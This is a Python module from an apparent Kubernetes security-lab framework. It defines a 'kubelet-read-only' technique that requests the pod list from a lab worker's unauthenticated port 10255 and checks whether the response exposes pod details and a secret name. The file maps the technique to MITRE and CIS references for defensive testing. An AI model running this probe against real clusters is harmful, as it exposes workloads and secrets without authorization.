"""List the pods of a worker from the kubelet's read-only port.

The attacker needs a connection to this port of a worker, usually 10255. It is plain HTTP and asks
for no credential. The answer names each pod with its image, address, service account and the
secrets that it uses. It shows the values of secrets only if they are written in the pod's own
definition. It stops if the port is closed, which is the default of the kubelet's configuration
file.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.cluster.syntax.urls import port_of
from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.api.kubelet import as_apiserver
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

PATH, KUBELET, USUAL_PORT = "/pods", "kubelet@worker1", 10255
CHANNEL = f"anyone@network -> {KUBELET}:{USUAL_PORT}"
WANTED = "db-credentials"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the read-only port is open."""
    channel = f"anyone@network -> {KUBELET}:{_port(model.environment)}"
    found = model.open_channels(channel)
    if found:
        return Prediction(True, (str(found[0].client_authentication),))
    return Prediction(False, tuple(str(c.encryption) for c in model.closed_channels(channel)[:1]))


def _port(env: Environment) -> int:
    """Return the port that the kubelet has for this, or the usual one if it has none."""
    return port_of(env.component(KUBELET).setting("readOnlyPort")) or USUAL_PORT


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask the read-only port for the list of pods."""

    def control() -> str:
        _pods(as_apiserver(lab, "GET", PATH))
        return "with the apiserver's certificate, the same kubelet lists its pods on its own port"

    url = f"http://worker1:{_port(lab.environment)}{PATH}"
    return ask(lab, TECHNIQUE.name, foothold, url, proof=_pods, control=control)


def _pods(answer: Answer) -> str:
    """Check that the answer names the pod shop/web and the secret that it uses."""
    try:
        # a kubelet that has just started has no list yet, and answers null
        items = json.loads(answer.body)["items"] or []
    except (ValueError, LookupError, TypeError) as error:
        raise ProbeError("the answer is not a kubelet's list of pods") from error
    for pod in items:
        about = pod["metadata"]
        if (about["namespace"], about["name"]) == ("shop", "web") and WANTED in json.dumps(pod):
            return f"read: what pod shop/web is made of, and that it uses the secret {WANTED}"
    raise ProbeError("the kubelet answered, but without the pod shop/web")


TECHNIQUE = Technique(
    name="kubelet-read-only",
    title="Read from the kubelet's read-only port what runs on a worker",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(),
    about=CHANNEL,
    properties=("encryption", "client_authentication"),
    attack=("T1613",),
    stride=("information disclosure",),
    cwe=("CWE-306", "CWE-319"),
    sources=(
        "CIS Kubernetes Benchmark 4.2.4",
        "https://kubernetes.io/docs/reference/networking/ports-and-protocols/",
        "https://attack.mitre.org/techniques/T1613/",
    ),
    predict=predict,
    execute=execute,
)
